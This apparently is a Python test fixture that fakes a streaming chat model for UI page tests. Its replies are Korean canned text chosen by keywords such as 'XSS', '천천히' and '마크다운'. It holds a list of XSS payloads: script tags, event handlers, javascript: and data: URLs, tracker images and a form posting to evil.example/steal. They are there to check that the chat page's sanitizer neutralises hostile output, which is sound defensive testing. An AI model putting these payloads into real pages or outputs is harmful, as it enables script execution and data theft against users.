"""A model for page tests: what it streams depends on a keyword in the user's message."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Sequence

from daehwa.llm.base import Chunk, GenerationParams
from daehwa.llm.scripted import split_tokens
from daehwa.messages import Message, Role, Usage

# Markup a hostile or confused model might send; none of it may act on the page.
XSS_PAYLOADS = [
    "<script>window.__xss = 1; alert('script')</script>",
    "<img src=x onerror=\"window.__xss = 2; alert('img')\">",
    '<svg onload="window.__xss = 3"><circle r=5></circle></svg>',
    '<iframe src="javascript:window.__xss = 4"></iframe>',
    '<a href="javascript:window.__xss = 5">raw link</a>',
    "[md link](javascript:window.__xss=6)",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<style>body { background: url(https://tracker.example/bg.png) }</style>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 7">',
    '<details open ontoggle="window.__xss = 8">x</details>',
    '<form action="https://evil.example/steal"><button>제출</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
    '<a href="/v1/auth/logout">same-origin link</a>',
    "![tracker](https://tracker.example/pixel.png)",
    '![cat](https://images.example/cat.png "고양이")',
    '<img src="https://tracker.example/raw.png">',
    "`<script>in code</script>`",
]
XSS_REPLY = "# 위험한 출력\n\n" + "\n\n".join(XSS_PAYLOADS) + "\n\n끝."

SLOW_REPLY = (
    "천천히 답하겠습니다. 하나 둘 셋 넷 다섯 여섯 일곱 여덟 아홉 열 "
    "열하나 열둘 열셋 열넷 열다섯 열여섯 열일곱 열여덟 열아홉 스물 "
    "스물하나 스물둘 스물셋 스물넷 스물다섯 스물여섯 스물일곱 스물여덟 스물아홉 서른. 끝."
)

# Streamed in these pieces, CHUNKY_DELAY seconds apart, as a paced upstream hands over
# what the model said in the last interval; the second is long enough to grow the
# reply by several lines on a phone.
CHUNKY_TEXTS = (
    "첫 번째 덩어리는 여러 낱말로 되어 있어서 좁은 화면에서는 몇 줄에 걸쳐 보입니다. ",
    "두 번째 덩어리도 한꺼번에 도착하지만 화면에는 조금씩 나타나야 하고, "
    "목록은 글이 늘어나는 동안 계속 맨 아래를 따라가야 합니다. " * 3,
    "세 번째 덩어리가 마지막이며 답이 끝나면 남은 글자가 한 번에 모두 보입니다.",
)
CHUNKY_REPLY = "".join(CHUNKY_TEXTS)
CHUNKY_PIECES = len(CHUNKY_TEXTS)
CHUNKY_DELAY = 0.5

MARKDOWN_REPLY = (
    "물론입니다! **파이썬**으로 리스트를 뒤집는 방법은 세 가지가 있습니다.\n\n"
    "| 방법 | 원본 변경 | 복사본 |\n|---|---|---|\n"
    "| `lst.reverse()` | 예 | 아니오 |\n| `lst[::-1]` | 아니오 | 예 |\n"
    "| `reversed(lst)` | 아니오 | 반복자 |\n\n"
    "```python\nnumbers = [1, 2, 3, 4]\nnumbers.reverse()\n"
    "print(numbers)  # [4, 3, 2, 1]\n```\n\n"
    "> 큰 리스트라면 복사본을 만들지 않는 `reverse()`가 메모리를 아낍니다.\n\n"
    "참고 그림: ![도식](https://images.example/diagram.png)"
)


class PageModel:
    """Streams a reply chosen by keyword, ``token_delay`` seconds per piece.

    ``XSS`` → :data:`XSS_REPLY` (split into many small pieces, so tags arrive
    broken across deltas); ``천천히`` → :data:`SLOW_REPLY`; ``마크다운`` →
    :data:`MARKDOWN_REPLY`; anything else → ``"답: <message>"``.
    """

    def __init__(self, name: str = "page", *, token_delay: float = 0.03) -> None:
        self.name = name
        self.token_delay = token_delay

    def reply_for(self, text: str) -> str:
        if "XSS" in text:
            return XSS_REPLY
        if "천천히" in text:
            return SLOW_REPLY
        if "덩어리" in text:
            return CHUNKY_REPLY
        if "마크다운" in text:
            return MARKDOWN_REPLY
        return f"답: {text}"

    def pieces(self, text: str) -> list[str]:
        reply = self.reply_for(text)
        if reply is XSS_REPLY:
            return [reply[i : i + 7] for i in range(0, len(reply), 7)]
        if reply is CHUNKY_REPLY:
            return list(CHUNKY_TEXTS)
        return split_tokens(reply)

    async def stream(
        self, messages: Sequence[Message], params: GenerationParams
    ) -> AsyncIterator[Chunk]:
        users = [m for m in messages if m.role is Role.USER]
        pieces = self.pieces(users[-1].content if users else "")
        delay = self.token_delay * (4 if pieces and pieces[0].startswith("천천히") else 1)
        if tuple(pieces) == CHUNKY_TEXTS:
            delay = CHUNKY_DELAY
        for piece in pieces:
            await asyncio.sleep(delay)
            yield Chunk(text=piece)
        prompt = sum(len(m.content) for m in messages)
        yield Chunk(finish_reason="stop", usage=Usage(prompt, len(pieces)))

    async def aclose(self) -> None:
        return None
